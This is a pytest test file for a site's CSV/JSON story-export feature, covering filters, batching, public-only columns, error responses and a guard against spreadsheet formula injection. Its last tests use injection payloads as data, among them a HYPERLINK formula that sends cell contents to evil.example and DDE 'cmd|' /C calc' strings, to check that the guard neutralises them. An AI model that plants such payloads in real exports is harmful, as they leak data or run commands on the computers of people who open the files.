""" "Download these results": every public story a search matches, as CSV and JSON."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from decimal import Decimal

import pytest
from wagtail.models import PageViewRestriction

from search.server import free_port
from tests.factories import (
    BrightSpotPageFactory,
    IndustryFactory,
    InterventionTypeFactory,
    MetricDefinitionFactory,
    RegionFactory,
)
from tests.search.helpers import story

pytestmark = pytest.mark.django_db

COMPANY = "Zorblatt Textiles"
CONFIDENTIAL = "Quenvik Harbour"


def rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.content
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="stories.csv"'
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


def titles(response) -> list[str]:
    return [row["title"] for row in rows(response)]


@pytest.fixture
def collection(published, committed, monkeypatch, settings):
    """Eleven public stories, more than a search page shows and in several export batches
    (each read three at a time), and a members-only one; published oldest first."""
    from embeds import export

    monkeypatch.setattr(export, "EXPORT_BATCH", 3)
    settings.SEARCH_PAGE_SIZE = 4
    apparel = IndustryFactory(name="Apparel", slug="apparel")
    seafood = IndustryFactory(name="Seafood", slug="seafood")
    repay = InterventionTypeFactory(name="Fee repayment", slug="fee-repayment")
    secrets = {"contributing_company": COMPANY, "confidential_terms": CONFIDENTIAL}
    pages = [
        published(
            story(
                f"Mill {n} repays recruitment fees" if n % 3 else f"Mill {n} opens a hotline",
                summary="Workers were repaid." if n % 3 else "A hotline for workers.",
                industry=apparel if n < 7 else seafood,
                intervention_types=[repay],
                **secrets,
            )
        )
        for n in range(10)
    ]
    pages.append(
        published(
            BrightSpotPageFactory(
                title="Recruitment fees repaid to 300 fishers",
                body="Recruitment fees repaid within a year.",
                industry=seafood,
                region=RegionFactory(name="South-East Asia", slug="south-east-asia"),
                intervention_types=[repay],
                metric=MetricDefinitionFactory(name="Fees repaid", slug="fees-repaid", unit="USD"),
                metric_value=250000,
                verification="second-party",
                year_started=2023,
                year_ended=None,
                **secrets,
            )
        )
    )
    secret = published(story("Members-only recruitment fees", industry=apparel, **secrets))
    with committed():
        PageViewRestriction.objects.create(page=secret, restriction_type="login")
    return pages


@pytest.fixture
def loaded(monkeypatch) -> list[int]:
    """How many stories each read of an export brings into memory, read after read."""
    from embeds import export

    sizes: list[int] = []
    load = export.load_stories

    def counting(ids: list[int]):
        sizes.append(len(ids))
        return load(ids)

    monkeypatch.setattr(export, "load_stories", counting)
    return sizes


def test_every_matching_story_is_downloaded_not_just_the_page_shown(client, collection, loaded):
    # Without words: the database's stories, newest first, read a batch at a time.
    everything = titles(client.get("/api/stories/export.csv"))
    assert everything == [p.title for p in reversed(collection)]
    assert loaded == [3, 3, 3, 2]

    apparel = titles(client.get("/api/stories/export.csv?industry=apparel&type=case-study"))
    assert apparel == [
        f"Mill {n} {'repays recruitment fees' if n % 3 else 'opens a hotline'}"
        for n in reversed(range(7))
    ]


def test_with_words_the_search_engine_finds_every_match(client, collection, loaded):
    page = client.get("/search/?q=recruitment+fees&sort=newest").content.decode()
    assert "7 results" in page  # shown four at a time

    found = titles(client.get("/api/stories/export.csv?q=recruitment+fees&sort=newest"))
    expected = [p.title for p in reversed(collection) if "fees" in p.title]
    assert found == expected and len(found) == 7
    assert loaded == [3, 3, 1]  # the search engine walked with search_after, 3 at a time
    # In relevance order too, every match once.
    ranked = titles(client.get("/api/stories/export.csv?q=recruitment+fees"))
    assert sorted(ranked) == sorted(expected)

    narrowed = client.get("/api/stories/export.json?q=recruitment+fees&industry=seafood")
    assert narrowed.status_code == 200 and narrowed.streaming
    document = json.loads(b"".join(narrowed.streaming_content))
    assert {r["title"] for r in document["results"]} == {
        "Recruitment fees repaid to 300 fishers",
        "Mill 7 repays recruitment fees",
        "Mill 8 repays recruitment fees",
    }


def test_rows_hold_the_documented_public_columns_only(client, collection):
    dictionary = client.get("/data/").content.decode()
    section = dictionary.split("Columns of a search results download")[1]
    documented = re.findall(r'<th scope="row"><code>([^<]+)</code>', section)

    response = client.get("/api/stories/export.csv?industry=seafood")
    text = b"".join(response.streaming_content).decode()
    header = next(csv.reader(io.StringIO(text)))
    assert header == documented
    assert COMPANY not in text and CONFIDENTIAL not in text
    assert "Members-only" not in text

    spot = next(r for r in csv.DictReader(io.StringIO(text)) if r["type"] == "bright-spot")
    assert spot["industry"] == "seafood"
    assert spot["region"] == "south-east-asia"
    assert spot["intervention_types"] == "fee-repayment"
    assert spot["headline_metric"] == "fees-repaid"
    assert spot["headline_unit"] == "USD"
    assert spot["headline_verification"] == "second-party"
    assert spot["year_started"] == "2023" and spot["year_ended"] == ""
    assert spot["url"].endswith(collection[-1].url)

    document = client.get("/api/stories/export.json?industry=seafood")
    assert document["Content-Disposition"] == 'attachment; filename="stories.json"'
    data = json.loads(b"".join(document.streaming_content))
    assert data["columns"] == documented
    assert [r["id"] for r in data["results"]] == [
        r["id"] for r in csv.DictReader(io.StringIO(text))
    ]
    assert data["results"][0] == spot


def test_the_search_page_offers_the_download_of_exactly_its_search(client, collection):
    page = client.get("/search/?q=fees&industry=apparel&sort=newest&page=2").content.decode()
    links = dict(
        (kind, html.unescape(href))
        for href, kind in re.findall(
            r'<a href="([^"]+)" type="[^"]+" download>(CSV|JSON)</a>', page
        )
    )
    assert links["CSV"] == "/api/stories/export.csv?q=fees&industry=apparel&sort=newest"
    assert links["JSON"] == "/api/stories/export.json?q=fees&industry=apparel&sort=newest"
    # Every apparel story mentions fees (its intervention is "Fee repayment"): all seven,
    # though the page shows four at a time.
    assert "7 results, page 2 of 2" in page
    assert titles(client.get(links["CSV"])) == [p.title for p in reversed(collection[:7])]


@pytest.mark.parametrize(
    ("query", "parameter", "message"),
    [
        ("industry=no-such-industry", "industry", "unknown industry: 'no-such-industry'"),
        ("year=twenty", "year", "not a year: 'twenty'"),
        ("colour=red", "colour", "unknown parameter"),
        ("sort=oldest", "sort", "relevance"),
    ],
)
def test_bad_input_answers_422_naming_it(client, collection, query, parameter, message):
    for address in ("/api/stories/export.csv", "/api/stories/export.json"):
        response = client.get(f"{address}?{query}")
        assert response.status_code == 422
        errors = response.json()["detail"]
        assert any(e["loc"][-1] == parameter and message in e["msg"] for e in errors), errors


def test_search_down_a_download_with_words_answers_503_with_retry_after(
    client, collection, settings
):
    settings.ELASTICSEARCH_URL = f"http://127.0.0.1:{free_port()}"
    response = client.get("/api/stories/export.csv?q=fees")
    assert response.status_code == 503
    assert int(response["Retry-After"]) > 0
    assert "temporarily unavailable" in response.json()["detail"]
    # Filters alone come from the database and keep working.
    assert len(titles(client.get("/api/stories/export.csv?industry=seafood"))) == 4


FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Read the full story")'


def test_a_cell_a_spreadsheet_would_run_is_downloaded_as_text(client, published):
    seafood = IndustryFactory(name="Seafood", slug="seafood")
    published(story(FORMULA, summary="@SUM(1+1)*cmd|' /C calc'!A0", industry=seafood))
    published(
        BrightSpotPageFactory(
            title="Overtime cut on two trawler fleets",
            industry=seafood,
            metric=MetricDefinitionFactory(name="Overtime", slug="overtime", unit="hours"),
            metric_value=Decimal("-12.5"),
            metric_precision="exact",
        )
    )

    found = {r["type"]: r for r in rows(client.get("/api/stories/export.csv?industry=seafood"))}
    assert found["case-study"]["title"] == "'" + FORMULA
    assert found["case-study"]["summary"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    # A negative figure is a number, not a formula: written as it is.
    assert float(found["bright-spot"]["headline_value"]) == -12.5
    # JSON is not opened by spreadsheets: there the title is exactly as published.
    document = client.get("/api/stories/export.json?industry=seafood")
    results = json.loads(b"".join(document.streaming_content))["results"]
    assert FORMULA in {r["title"] for r in results}


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-1-1", "'-1-1"),  # a sum, not a number
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("-1.5e3", "-1.5e3"),
        ("-20..-10", "-20..-10"),  # a published range
        ("Fees = wages", "Fees = wages"),
        ("", ""),
    ],
)
def test_which_cells_the_csv_guard_quotes(cell, written):
    from base.csv import safe_cell

    assert safe_cell(cell) == written


def test_a_story_published_during_a_long_download_neither_repeats_nor_skips_a_row(
    client, collection, published
):
    address = "/api/stories/export.csv?q=recruitment+fees"
    before = titles(client.get(address))
    assert len(before) == 7

    response = client.get(address)  # read three stories at a time (``collection``)
    stream = iter(response.streaming_content)
    head = [next(stream) for _ in range(3)]  # the header and two rows of the first batch
    # A new match between two batches shifts every relevance score (and, without a
    # point in time, the cursor with them).
    published(story("Recruitment fees repaid: recruitment fees refunded to dockworkers"))
    text = b"".join([*head, *stream]).decode()
    during = [row["title"] for row in csv.DictReader(io.StringIO(text))]

    assert sorted(during) == sorted(before), "one snapshot: no row twice, none missing"
    assert len(titles(client.get(address))) == 8  # the next download has the new story
